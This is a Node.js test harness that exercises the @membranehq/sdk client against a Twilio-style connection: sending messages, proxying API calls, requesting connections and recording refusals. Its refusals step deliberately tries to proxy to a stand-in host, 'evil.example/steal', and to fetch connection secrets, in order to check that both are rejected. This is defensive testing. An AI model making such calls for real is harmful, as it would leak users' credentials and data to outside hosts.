"use strict";
/*
 * node membrane.js STEP ARGUMENTS…: @membranehq/sdk as it comes from npm, against the platform at
 * MEMBRANE_API_URI, with a workspace's key and secret or with a ready token. One JSON value on
 * standard output.
 */
const { MembraneClient } = require("@membranehq/sdk");

const env = process.env;
const client = new MembraneClient({
  apiUri: env.MEMBRANE_API_URI,
  ...(env.MEMBRANE_TOKEN
    ? { token: env.MEMBRANE_TOKEN }
    : {
        workspaceKey: env.MEMBRANE_WORKSPACE_KEY,
        workspaceSecret: env.MEMBRANE_WORKSPACE_SECRET,
        tenantKey: env.MEMBRANE_TENANT ?? "default",
      }),
});

/** What an application sees of a refusal. */
async function refusal(promise) {
  try {
    return { none: await promise };
  } catch (error) {
    return {
      class: error.constructor.name,
      type: error.data?.type,
      key: error.data?.key,
      message: error.data?.message ?? error.message,
      status: error.response?.status,
      body: error.response?.data,
    };
  }
}

const steps = {
  /** Everything that an application does by the SDK's typed methods, by one connection. */
  async whole(connectionId, from, to) {
    const connection = client.connection(connectionId);
    const found = await client.get("/actions", { connectionId, intent: "send a text message", limit: 3 });
    const sent = await client
      .action("send-message")
      .run({ from, to, body: "by an action" }, { connectionId });
    const bare = await connection.action("get-message").run({ messageSid: sent.output.sid });
    const listed = await connection.actions.list({ intent: "hang up" });
    const account = (await connection.proxy.get("/2010-04-01/Accounts.json")).accounts[0].sid;
    const messages = `/2010-04-01/Accounts/${account}/Messages.json`;
    const json = await connection.proxy.post(messages, { From: from, To: to, Body: "JSON made a form" });
    const form = await connection.proxy.post(
      messages,
      new URLSearchParams([["From", from], ["To", to], ["Body", "a form"], ["MediaUrl", "https://a.example/1.png"], ["MediaUrl", "https://a.example/2.png"]]),
    );
    const legacy = await connection.request(`2010-04-01/Accounts/${account}/Messages.json`, { From: from, To: to, Body: "legacy" });
    return {
      self: await client.self.get(),
      connections: await client.connections.find(),
      all: await client.connections.find({ limit: 1 }),
      fetched: await connection.get(),
      renamed: await connection.patch({ name: "My line" }),
      actions: found.items.map((action) => action.key),
      schema: found.items[0].inputSchema,
      listed: listed.items.map((action) => action.key),
      sent: sent.output,
      run: await client.get(`/action-run-logs/${sent.actionRunId}`),
      bare: bare.output,
      account,
      json,
      form,
      legacy,
      described: await client.post(`/connections/${connectionId}/request`, {
        path: "/2010-04-01/Accounts/{account}/Messages/{sid}.json",
        method: "GET",
        pathParameters: { account, sid: json.sid },
      }),
      act: await client.post("/act", { connectionId, key: "get-message", input: { messageSid: json.sid } }),
      tested: await client.post(`/connections/${connectionId}/test`),
    };
  },

  /** What is refused, as the SDK shows it. */
  async refusals(connectionId) {
    const connection = client.connection(connectionId);
    return {
      unknown: await refusal(client.connection("00000000-0000-4000-8000-000000000000").get()),
      secrets: await refusal(connection.get({ includeSecrets: true })),
      input: await refusal(client.action("send-message").run({ to: 5 }, { connectionId })),
      action: await refusal(client.action("no-such-action").run({}, { connectionId })),
      provider: await refusal(
        client.action("get-message").run({ messageSid: "SM" + "0".repeat(32) }, { connectionId }),
      ),
      upstream: await refusal(connection.proxy.get("/2010-04-01/Accounts/AC0/Messages.json")),
      foreign: await refusal(connection.proxy.get("https://evil.example/steal")),
    };
  },

  /** Connect by a request, which a person fulfils on the hosted page. */
  async request(connectorId) {
    const search = await client.get("/search", { q: "twilio", elementType: "connector" });
    const made = await client.post("/connection-requests", {
      connectorId: connectorId ?? search.items[0].element.id,
    });
    return { search, made, fetched: await client.get(`/connection-requests/${made.requestId}`) };
  },

  async get(path) {
    return await refusal(client.get(path));
  },

  async archive(connectionId) {
    await client.connection(connectionId).archive();
    return { afterwards: await refusal(client.connection(connectionId).get()) };
  },

  async create(json) {
    return await refusal(client.connections.create(JSON.parse(json)));
  },
};

const [step, ...given] = process.argv.slice(2);
steps[step](...given).then(
  (result) => process.stdout.write(JSON.stringify(result)),
  (error) => {
    console.error(error.data ?? error);
    process.exitCode = 1;
  },
);
